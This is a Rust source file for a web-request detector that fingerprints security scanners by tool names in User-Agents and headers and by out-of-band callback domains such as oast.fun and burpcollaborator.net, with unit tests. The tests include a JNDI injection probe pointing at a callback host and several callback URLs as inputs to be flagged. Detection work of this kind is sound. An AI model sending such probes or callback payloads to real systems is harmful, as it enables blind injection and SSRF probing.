//! Scanner fingerprints: the tools announce themselves, in the User-Agent or in their own headers.
//!
//! One Aho-Corasick pass over the User-Agent and a few headers for the names of attack tools
//! (sqlmap, nikto, nuclei, acunetix, ...), plus the headers some scanners add
//! (`acunetix-aspect`, `x-scanner`) and out-of-band callback domains (`*.oast.fun`,
//! `*.burpcollaborator.net`, `*.interact.sh`) anywhere in the head but the credentials (cookies
//! and `Authorization` are long random strings, read here for nothing). In the headers that name
//! a host or a page (`Host`, `Referer`, `Origin`) only a callback domain counts: a site may be
//! called `hydra-films.example`. Legitimate monitoring
//! (`Pingdom`, `UptimeRobot`) is not on the list. A match is High: a scanner is reconnaissance,
//! not an exploit, but operators want it blocked.
//!
//! The callback domains are also looked for in every other value ([`Callbacks`]): a webhook URL,
//! an XML entity or a `${jndi:...}` that points at `abc.oast.fun` is a scanner's blind probe for
//! SSRF, XXE or injection, whatever the payload around it.

use super::gate::gated;
use super::literals::Literals;
use super::{Check, Family, Hit, Subject, Trigger};
use crate::facts::RequestHead;
use crate::fields::Part;
use crate::finding::Severity::High;
use std::ops::ControlFlow;

pub(crate) struct Scanner {
    names: Literals,
}

const TOOLS: &[&str] = &[
    "sqlmap", "nikto", "nuclei", "acunetix", "netsparker", "invicti", "nessus", "openvas", "w3af", "arachni", "skipfish",
    "wpscan", "dirbuster", "gobuster", "feroxbuster", "ffuf", "wfuzz", "dirb/", "havij", "masscan", "zgrab", "nmap scripting",
    "nmap nse", "commix", "xsstrike", "fimap", "jbrofuzz", "appscan", "webinspect", "burp collaborator", "burpsuite",
    "qualys", "whatweb", "jaeles", "morfeus", "zmeu", "paros", "webshag", "brutus", "bsqlbf", "sqlninja",
    "pangolin", "absinthe", "mysqloit", "metasploit", "hydra", "medusa", "cgichk", "n-stealth", "nsauditor",
    "interactsh", "canarytokens", "fuzz faster u fool", "dirsearch", "wapiti", "xsser", "joomscan", "droopescan", "cmsmap",
];

/// Out-of-band interaction services: domains that exist to receive scanners' callbacks.
const CALLBACK_DOMAINS: &[&str] = &[
    ".oast.fun", ".oast.pro", ".oast.live", ".oast.site", ".oast.online", ".oast.me", ".oastify.com",
    "burpcollaborator.net", "interact.sh", "dnslog.cn", "ceye.io",
];

const HEADERS: &[&str] = &["acunetix-aspect", "acunetix-aspect-password", "acunetix-aspect-queries", "x-scanner", "x-wipp", "x-request-memo", "x-requestmanager-memo", "x-wapiti"];

impl Scanner {
    pub fn new() -> Result<Scanner, String> {
        // PERF: a full DFA walked in our own loop; every header value of every request goes
        // through it.
        let names: Vec<&str> = TOOLS.iter().chain(CALLBACK_DOMAINS).copied().collect();
        Ok(Scanner { names: Literals::new("scanner names", &names)? })
    }

    pub fn scan(&self, head: &RequestHead, out: &mut Vec<(Hit, String, String)>) {
        for (name, value) in &head.headers {
            // Credentials are long random strings no scanner writes its name into.
            if matches!(name.as_str(), "cookie" | "authorization") {
                continue;
            }
            if HEADERS.contains(&name.as_str()) {
                let hit = Hit::new(Family::Scanner, High, 0.9, 0, "scanner header");
                out.push((hit, format!("header:{name}"), format!("{name}: {value}")));
                return;
            }
            let found = if names_a_place(name) {
                // Only a callback domain: the tools' names are the first literals.
                self.names.each(value.as_bytes(), |i, s, _| if i < TOOLS.len() { ControlFlow::Continue(()) } else { ControlFlow::Break(s) })
            } else {
                self.names.leftmost_start(value.as_bytes())
            };
            if let Some(at) = found {
                let hit = Hit::new(Family::Scanner, High, 0.9, at, "scanner or callback domain");
                out.push((hit, format!("header:{name}"), value.clone()));
                return;
            }
        }
    }
}

/// Whether a header names a host or a page (`Host: hydra-films.example`, a `Referer` on an article
/// about Medusa): a tool's name there is part of a name, not a tool announcing itself, while a
/// callback domain there is still a probe.
fn names_a_place(header: &str) -> bool {
    matches!(header, "host" | ":authority" | "referer" | "origin" | "x-forwarded-host" | "forwarded")
}

/// Gate: the domain ends there (`x.oast.fun/`, `x.oast.fun"`), it is not the start of a longer
/// name (`interact.shop`).
fn domain_end(b: &[u8], _s: usize, e: usize) -> bool {
    !b.get(e).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
}

/// Callback domains in values other than headers (which [`Scanner::scan`] reads).
pub(crate) struct Callbacks;

impl Check for Callbacks {
    fn triggers(&self) -> &'static [Trigger] {
        // Each callback domain, with its end confirmed.
        const T: [Trigger; CALLBACK_DOMAINS.len()] = {
            let mut t = [gated("", domain_end); CALLBACK_DOMAINS.len()];
            let mut i = 0;
            while i < t.len() {
                t[i] = gated(CALLBACK_DOMAINS[i], domain_end);
                i += 1;
            }
            t
        };
        &T
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        if matches!(s.part, Part::Header | Part::ResponseHeader | Part::ResponseBody) {
            return None;
        }
        let b = s.text.as_bytes();
        CALLBACK_DOMAINS.iter().find_map(|d| {
            s.text.match_indices(d).find(|(at, _)| domain_end(b, *at, at + d.len())).map(|(at, _)| {
                Hit::new(Family::Scanner, High, 0.9, at, "out-of-band callback domain")
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::detector;
    use crate::facts::RequestHead;

    fn kinds(ua: &str) -> Vec<String> {
        let h = RequestHead { method: "GET".into(), path: "/".into(), headers: vec![("user-agent".into(), ua.into())], ..Default::default() };
        let mut out = Vec::new();
        detector().scan_head(&h, &mut out);
        out.into_iter().map(|f| f.kind.to_string()).collect()
    }

    #[test]
    fn callback_domains_in_values() {
        use super::super::testing::{any_flag_in_json, flags_in_json};
        assert!(flags_in_json("attack.scanner", "https://c59h2k3xq.oast.fun/hook"));
        assert!(flags_in_json("attack.scanner", "${jndi:ldap://x.interact.sh/a}"));
        assert!(flags_in_json("attack.scanner", "abc123.burpcollaborator.net"));
        assert!(!any_flag_in_json("https://interact.shop/cart"));
        assert!(!any_flag_in_json("see https://oast.fun.example.com"));
        assert!(!any_flag_in_json("https://hooks.example.com/ceye.iox"));
    }

    #[test]
    fn tool_names_inside_host_names_and_pages_are_not_scanners() {
        let head = |name: &str, value: &str| {
            let h = RequestHead { method: "GET".into(), path: "/".into(), headers: vec![(name.into(), value.into())], ..Default::default() };
            let mut out = Vec::new();
            detector().scan_head(&h, &mut out);
            out.into_iter().any(|f| f.kind == "attack.scanner")
        };
        assert!(!head("host", "api.hydra-films.example"));
        assert!(!head("referer", "https://encyclopedia.example/wiki/Medusa_(mythology)"));
        assert!(!head("origin", "https://paros-travel.example"));
        // A callback domain there is a probe, and a tool's name is one in its own headers.
        assert!(head("host", "k3j5h2.oast.fun"));
        assert!(head("referer", "https://x9f.burpcollaborator.net/"));
        assert!(head("x-client", "hydra v9.5"));
    }

    #[test]
    fn scanners_by_user_agent() {
        for ua in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project", "Mozilla/5.0 zgrab/0.x", "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/5.0 (compatible; dirsearch)"] {
            assert!(kinds(ua).contains(&"attack.scanner".to_string()), "{ua}");
        }
        for ua in ["Mozilla/5.0 (X11; Linux x86_64) Chrome/120", "curl/8.4.0", "python-requests/2.31", "Pingdom.com_bot", "python-httpx/0.27.0", "okhttp/4.12.0"] {
            assert!(kinds(ua).is_empty(), "{ua}");
        }
    }
}
